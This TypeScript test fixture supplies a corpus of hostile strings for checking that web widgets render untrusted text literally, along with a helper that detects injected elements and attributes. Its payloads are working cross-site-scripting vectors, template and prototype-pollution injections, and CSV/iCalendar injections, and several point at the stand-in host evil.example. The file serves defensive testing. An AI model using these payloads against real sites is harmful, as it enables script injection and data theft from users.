/**
 * Hostile text: what people and pages might put into a widget, on purpose or not. Every payload that
 * could run sets `window.__tendPwned`; every payload that could load something points at
 * evil.example. A widget must show all of it literally, run none of it and load nothing.
 */

const PWN = 'window.__tendPwned=1';

/** A short sample used by the widgets' own tests (kept small so those stay fast). */
export const hostileStrings = [
  `<img src=x onerror="${PWN}">`,
  `<script>${PWN}</script>`,
  `"><svg onload="${PWN}">`,
  `'); ${PWN}; //`,
  `\${${PWN}}`,
  `{{constructor.constructor("${PWN}")()}}`,
  `javascript:${PWN}`,
  '\u202Eevil\u202C \u200B\u200D zero-width',
  'x'.repeat(10_000),
];

/** 10,000 characters of markup payloads (cut mid-tag at the end, as a paste would be). */
export const hostile10k = `<img src=x onerror="${PWN}"><b>bold</b> `.repeat(200).slice(0, 10_000);
/** 100,000 characters: words, markup and a lone surrogate at the very end. */
export const hostile100k = `word <i>${'x'.repeat(20)}</i> `.repeat(4_000).slice(0, 99_999) + '\uD800';

/** The full corpus for the security suites (test/security): 60+ strings, from markup to 100,000 characters. */
export const hostileCorpus: readonly string[] = [
  // HTML and SVG event handlers
  `<img src=x onerror="${PWN}">`,
  `<img src="x" onerror=${PWN} />`,
  `<svg onload="${PWN}">`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${PWN}"><text x="20" y="20">x</text></a></svg>`,
  `<body onload="${PWN}">`,
  `<iframe src="javascript:${PWN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__tendPwned=1</script>"></iframe>`,
  `<details open ontoggle="${PWN}">x</details>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<marquee onstart="${PWN}">x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<a href="javascript:${PWN}">click me</a>`,
  `<form action="javascript:${PWN}"><button>go</button></form>`,
  `<template><img src=x onerror="${PWN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
  `<base href="http://evil.example/">`,
  `</style><style>*{background:url(http://evil.example/x.png)}</style>`,
  // script tags
  `<script>${PWN}</script>`,
  `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `</textarea><script>${PWN}</script>`,
  `</title><script>${PWN}</script>`,
  // javascript: and other URLs
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  `java\tscript:${PWN}`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190ZW5kUHduZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  // attribute and context breakouts
  `"><svg onload="${PWN}">`,
  `'><img src=x onerror='${PWN}'>`,
  `" onmouseover="${PWN}" x="`,
  `' autofocus onfocus='${PWN}`,
  `\` onfocus=${PWN} \``,
  `'); ${PWN}; //`,
  `"}; ${PWN}; //`,
  `--><img src=x onerror="${PWN}"><!--`,
  `]]><img src=x onerror="${PWN}">`,
  // template syntaxes (JavaScript, Angular/Vue/Handlebars, ERB/EJS, Ruby, Lit's own markers, ours)
  `\${${PWN}}`,
  `{{constructor.constructor("${PWN}")()}}`,
  `<%= ${PWN} %>`,
  `#{${PWN}}`,
  '{{7*7}} ${7*7} <%= 7*7 %> [[7*7]] #{7*7}',
  '<!--?lit$123456789$--> lit$123456789$ <?lit$1$>',
  '{item} {count} {name} {0}',
  // Markdown, iCalendar and CSV injections
  `[click](javascript:${PWN}) ![x](http://evil.example/x.png) **bold** _it_ # heading`,
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/x\r\nSUMMARY:injected',
  '=HYPERLINK("http://evil.example","x");,\\',
  // object keys
  '{"__proto__":{"polluted":1}}',
  '__proto__',
  'constructor',
  // Unicode: bidi overrides, isolates, zero-width, BOM, combining marks, emoji sequences
  '\u202Eevil\u202C \u200B\u200D zero-width',
  '\u2066\u2067\u2068 isolates \u2069 \u200E\u200F marks \u061C',
  '\uFEFF BOM \u2060 word joiner \u00AD soft hyphen \u180E',
  '👩‍❤️‍👨 🏳️‍🌈 e\u0301 Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  // lone surrogates, NUL and other control characters, line separators
  'lone \uD800 high and \uDC00 low surrogates',
  'nul \u0000 byte',
  'bell \u0007 escape \u001B[31m red \u007F delete',
  'line one\nline two\r\nline three\u2028four\u2029five',
  // blank
  '',
  '   \t  ',
  // huge
  'x'.repeat(10_000),
  hostile10k,
  hostile100k,
];

/** The corpus without its two largest strings: for loops over many attributes or fields. */
export const hostileCorpusSmall: readonly string[] = hostileCorpus.filter((text) => text.length <= 10_000);

/** Elements a widget's own templates use; anything else in its shadow root was injected. */
const widgetTags = new Set(
  'section slot h2 h3 h4 p div span label input textarea select option button svg path ol ul li blockquote dl dt dd time progress strong em small output fieldset legend details summary br hr abbr kbd table caption thead tbody tr th td'.split(' '),
);

function pwned(): boolean {
  return Boolean((window as unknown as { __tendPwned?: number }).__tendPwned);
}

/**
 * Asserts nothing hostile ran and nothing was injected: in the element's shadow root only the
 * widgets' own kinds of elements, no event-handler attribute, no URL attribute; in the light DOM
 * (the document) no element carrying a payload.
 */
export function assertNothingInjected(root: ShadowRoot | Element): void {
  if (pwned()) throw new Error('hostile text executed');
  const scope = root instanceof ShadowRoot ? root : (root.shadowRoot ?? root);
  for (const element of scope.querySelectorAll('*')) {
    if (!widgetTags.has(element.localName)) {
      throw new Error(`hostile text became an element: ${element.outerHTML.slice(0, 80)}`);
    }
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name) || /^(src|href|xlink:href|srcdoc|action|formaction|data)$/i.test(attribute.name)) {
        throw new Error(`hostile text became an attribute: <${element.localName} ${attribute.name}="${attribute.value.slice(0, 40)}">`);
      }
    }
  }
  const light = document.querySelector(
    'img[src=x], [onerror], [onload], [onfocus], [ontoggle], [onbegin], [onstart], [onmouseover], iframe[srcdoc], iframe[src^="javascript" i], object, embed, base, meta[http-equiv], marquee',
  );
  if (light) throw new Error(`hostile text reached the page: ${light.outerHTML.slice(0, 80)}`);
  const script = [...document.querySelectorAll('script:not([type="application/json"])')].find((s) => s.textContent?.includes('__tendPwned'));
  if (script) throw new Error(`hostile text became a script on the page: ${script.outerHTML.slice(0, 80)}`);
}

/** Resets the flag a payload would set, so one test's failure does not leak into the next. */
export function clearPwned(): void {
  delete (window as unknown as { __tendPwned?: number }).__tendPwned;
}

export { pwned };
